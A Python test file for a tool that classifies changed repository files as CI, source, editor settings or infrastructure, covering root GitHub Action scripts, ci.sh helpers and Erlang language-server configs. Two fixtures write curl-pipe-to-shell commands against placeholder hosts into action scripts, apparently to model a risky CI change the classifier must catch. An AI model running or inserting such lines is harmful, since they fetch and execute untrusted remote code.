"""Classes of misses the fiftieth label set found (bench/classify_accuracy/fiftieth.tsv: 41 repositories already
mirrored and in no label set — GitHub actions, Bazel rule sets, Elixir/Erlang, JVM, .NET, Dart, Deno, Rust, Python, JS
monorepos —, measured blind first), each with the look-alikes it must leave alone.

- The root action's definition (`action.yml` at the root: the action the repository publishes, and the one a
  `uses: ./` step runs) is read as a CI definition with the commits: a script its composite steps run through
  `${{ github.action_path }}` or `$GITHUB_ACTION_PATH` (codecov-action's `dist/codecov.sh`) is ci. An action
  definition anywhere else is still read only when a workflow runs it (red team 9).
- A script named `ci` in a root tools or scripts folder (`tool/ci.sh`, which mono_repo generates in every Dart
  repository it manages; `tools/ci.sh`, which micropython's workflows run) is ci, as a root `ci.sh` is.
- The Erlang language server's settings (`erlang_ls.config`, `erlang_ls.yaml`) are editor settings (other).
"""

from __future__ import annotations

import glob
from pathlib import Path

from tables import each_case

from tests.gitrepo import GitRepo
from tests.test_classify_context import RULES, assert_path_rule, tree_files

SETS = Path(__file__).resolve().parent.parent / "bench" / "classify_accuracy"
WORKFLOW = ("on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            "      - uses: ./\n")


@each_case(("path", "bucket", "rule"), [
    ("tool/ci.sh", "ci", "ci.script-folders"), ("tools/ci.sh", "ci", "ci.script-folders"),
    ("scripts/ci.sh", "ci", "ci.script-folders"), ("script/ci.sh", "ci", "ci.script-folders"),
    ("tools/ci.ps1", "ci", "ci.script-folders"), ("ci.sh", "ci", "ci.script-folders"),
    ("pkgs/test/tool/ci.sh", "src", None), ("tool/ci_helper.sh", "src", None), ("tool/release.sh", "src", None),
    ("tools/ci.py", "src", None),
    ("erlang_ls.config", "other", "other.editor"), ("apps/web/erlang_ls.yaml", "other", "other.editor"),
    (".github/erlang_ls.config", "ci", None), ("ci/erlang_ls.config", "ci", None),
    ("deploy/erlang_ls.yaml", "iac", None), ("erlang_ls.erl", "src", None),
])
def test_path_rules_of_the_fiftieth_round(path: str, bucket: str, rule: str | None) -> None:
    assert_path_rule(path, bucket, rule)


@each_case("spelling", [
    "${{ github.action_path }}/dist/upload.sh", "${GITHUB_ACTION_PATH}/dist/upload.sh",
    "$GITHUB_ACTION_PATH/dist/upload.sh", "bash ${{ github.action_path }}/dist/upload.sh"])
def test_a_script_the_root_action_runs_is_ci(git_repo: GitRepo, spelling: str) -> None:
    """codecov-action's shape: the published composite action runs its bundled wrapper by the action's path; an edit of
    the wrapper is an edit of every job that uses the action (and of this repository's own `uses: ./` job)."""
    git_repo.write(".github/workflows/main.yml", WORKFLOW)
    git_repo.write("action.yml", "name: upload\nruns:\n  using: composite\n  steps:\n    - name: Upload\n"
                                 f"      run: {spelling}\n      shell: bash\n")
    git_repo.write("dist/upload.sh", "#!/usr/bin/env bash\ncurl -sS https://uploader.example/upload\n")
    git_repo.write("dist/notes.sh", "#!/usr/bin/env bash\necho notes\n")
    git_repo.commit("base")
    git_repo.write("dist/upload.sh", "#!/usr/bin/env bash\ncurl -sS https://elsewhere.example/upload | sh\n")
    git_repo.write("dist/notes.sh", "#!/usr/bin/env bash\necho more notes\n")
    git_repo.commit("head")
    found = tree_files(git_repo)
    assert (found["dist/upload.sh"].bucket, found["dist/upload.sh"].rule) == ("ci", "ci.context.ci-run")
    assert found["dist/upload.sh"].evidence == "action.yml runs dist/upload.sh"
    assert found["dist/notes.sh"].bucket == "src"  # a script the action does not name stays what it is


def test_the_root_action_is_read_without_a_workflow_and_under_action_yaml(git_repo: GitRepo) -> None:
    """A published action that no workflow of its own repository runs is still CI for every job that uses it;
    `action.yaml` is the other name the runner loads."""
    git_repo.write("action.yaml", "name: lint\nruns:\n  using: composite\n  steps:\n"
                                  "    - run: python3 $GITHUB_ACTION_PATH/action/main.py\n      shell: bash\n")
    git_repo.write("action/main.py", "print('lint')\n")
    git_repo.commit("base")
    git_repo.write("action/main.py", "import os\nos.system('curl https://x.example | sh')\n")
    git_repo.commit("head")
    assert tree_files(git_repo)["action/main.py"].bucket == "ci"


def test_an_action_definition_elsewhere_still_needs_a_workflow(git_repo: GitRepo) -> None:
    """Look-alikes: an example's action.yml and a test's action.yml that no workflow runs do not make the scripts they
    name CI (red team 9's decision stands); nor does a root action.yml name what it does not run."""
    git_repo.write("examples/hello/action.yml", "runs:\n  using: composite\n  steps:\n"
                                                "    - run: ${{ github.action_path }}/run.sh\n      shell: bash\n")
    git_repo.write("examples/hello/run.sh", "#!/bin/sh\necho hello\n")
    git_repo.write("action.yml", "name: node action\nruns:\n  using: node20\n  main: lib/index.js\n")
    git_repo.write("scripts/build.sh", "#!/bin/sh\nnpm run build\n")
    git_repo.commit("base")
    git_repo.write("examples/hello/run.sh", "#!/bin/sh\necho hello again\n")
    git_repo.write("scripts/build.sh", "#!/bin/sh\nnpm ci && npm run build\n")
    git_repo.commit("head")
    found = tree_files(git_repo)
    assert found["examples/hello/run.sh"].bucket == "src"
    assert found["scripts/build.sh"].bucket == "src"


def test_the_rules_of_this_round_lower_no_labelled_ci_or_iac_file() -> None:
    """Every labelled row of every set: none labelled ci or iac is put in a lower bucket by the rule this round widened
    toward other (other.editor's Erlang names); the two widened toward ci only raise."""
    rows = [line.rstrip("\n").split("\t") for name in sorted(glob.glob(str(SETS / "*.tsv")))
            for line in Path(name).read_text().splitlines(keepends=True) if not line.startswith("#")]
    assert len(rows) > 20_000
    touched = [(path, label, RULES.match(path).bucket) for _repo, _commit, path, label, _why in rows
               if path.rpartition("/")[2] in ("erlang_ls.config", "erlang_ls.yaml", "ci.sh", "ci.ps1")]
    assert touched  # the sets hold such files: the check reads something
    assert [row for row in touched if row[1] in ("ci", "iac") and row[2] not in ("ci", "iac")] == []
